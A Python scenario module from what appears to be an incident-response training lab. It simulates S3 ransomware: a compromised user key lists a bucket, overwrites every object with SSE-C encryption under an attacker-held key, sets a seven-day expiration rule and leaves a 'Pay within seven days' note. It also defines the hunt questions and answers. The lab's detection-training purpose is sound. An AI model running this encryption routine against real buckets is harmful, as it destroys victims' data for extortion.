"""Ransom: every object of a bucket is written anew, encrypted with a key that only the thief has (SSE-C).

https://www.halcyon.ai/blog/abusing-aws-native-services-ransomware-encrypting-s3-buckets-with-sse-c
"""

import hashlib

from lab.scenarios.actor import Actor, make_bucket
from lab.scenarios.answers.facts import Fact, Kind
from lab.scenarios.answers.saved import Stage
from lab.scenarios.attacks.stranger import administrator, day, office, outside, owner_of_a_key
from lab.scenarios.hunt import Director, HuntOutcome
from lab.scenarios.people import Call, Worker
from lab.scenarios.stacks import stack_of

_USERS = ("media-sync", "cms-upload", "archive-writer", "design-team")
_DATA = (("product-photos", "photos"), ("project-archive", "projects"), ("contract-scans", "contracts"))
_NOTE = "HOW-TO-RESTORE.txt"


def ransom(director: Director) -> HuntOutcome:
    """Plays it.

    :raises LabError: the lab's time cannot pass as asked.
    """
    chance = director.chance
    name, (prefix, folder), there = chance.choice(_USERS), chance.choice(_DATA), outside(chance)
    bucket, objects = f"{prefix}-{director.lab.account}", director.objects or chance.randrange(60, 120)
    director.keep(Stage(users=(name,), stacks=(stack_of(name),), buckets=(bucket,)))
    admin = administrator(director)
    make_bucket(admin, bucket)
    for number in range(objects):
        admin.client("s3").put_object(Bucket=bucket, Key=f"{folder}/{number:04}.dat", Body=b"data")
    arn = f"arn:aws:s3:::{bucket}"
    owner = owner_of_a_key(
        director,
        name,
        [
            {"Action": "s3:ListAllMyBuckets", "Resource": "*"},
            {"Action": ["s3:ListBucket", "s3:PutLifecycleConfiguration"], "Resource": arn},
            {"Action": ["s3:GetObject", "s3:PutObject"], "Resource": f"{arn}/*"},
        ],
        office(chance),
    )
    looks: tuple[Call, ...] = (("s3", "get_object", {"Bucket": bucket, "Key": f"{folder}/0000.dat"}),)
    director.before(lambda: [Worker(owner, looks)])

    began = director.now()
    taken = _encrypt(owner.at(director.lab, there), bucket, chance.randbytes(32))
    director.after()

    return HuntOutcome(
        alarm=(
            f"{director.now()}  To: the engineer on call  From: the help desk",
            f"Since {day(director)} files of {bucket} cannot be opened any more. In it lies {_NOTE}.",
            "Who did that, from where? How many objects are lost, and when did it begin?",
        ),
        facts=(
            Fact("user", "Whose credentials were used?", Kind.NAME, name),
            Fact("address", "Which address were they used from?", Kind.ADDRESS, there.address),
            Fact("objects", "How many objects were encrypted with the thief's key?", Kind.COUNT, str(taken)),
            Fact("began", "When was the first call from that address?", Kind.TIME, began),
        ),
        story=(
            f"{name} may read and write {bucket}. From {there.address}, at {began}: ListBuckets, ListObjects, and",
            f"{taken} times GetObject and PutObject with a key of the thief's own; PutBucketLifecycle; {_NOTE}.",
        ),
    )


def _encrypt(thief: Actor, bucket: str, key: bytes) -> int:
    s3 = thief.client("s3")
    s3.list_buckets()
    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=bucket)
    keys = [each["Key"] for page in pages for each in page.get("Contents", ())]
    own = {"SSECustomerAlgorithm": "AES256", "SSECustomerKey": key}
    for name in keys:
        content = s3.get_object(Bucket=bucket, Key=name)["Body"].read()
        s3.put_object(Bucket=bucket, Key=name, Body=hashlib.sha256(key + content).digest(), **own)
    rules = [{"ID": "delete", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 7}}]
    s3.put_bucket_lifecycle_configuration(Bucket=bucket, LifecycleConfiguration={"Rules": rules})
    s3.put_object(Bucket=bucket, Key=_NOTE, Body=b"Pay within seven days.\n")
    return len(keys)
